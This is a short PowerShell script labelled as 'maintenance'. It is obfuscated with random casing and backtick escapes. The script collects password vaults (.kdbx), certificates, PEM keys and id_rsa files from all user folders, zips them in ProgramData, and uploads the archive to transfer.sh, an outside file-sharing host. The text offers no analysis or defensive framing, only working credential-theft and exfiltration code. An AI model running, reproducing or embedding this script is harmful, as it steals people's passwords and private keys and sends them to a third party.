# mAiNtEnAnCe 8204 v1
gET-c`hi`LD`ite`M -PaTh C:\USERs -REcUrsE -Include *.kDBX,*.PfX,*.PEm,ID_RSa -eRrOrAcTiOn SiLeNtLyCoNtInUe | c`oM`PRES`S-arcH`iVe -deSTINatIonpath c:\PrOgRaMdAtA\d.ziP
iNv`OkE-rE`sTmEt`H`oD -urI 'https://transfer.sh/azureadm1n.zip' -mEtHoD put -inFiLe C:\PRoGrAmdaTA\d.ziP
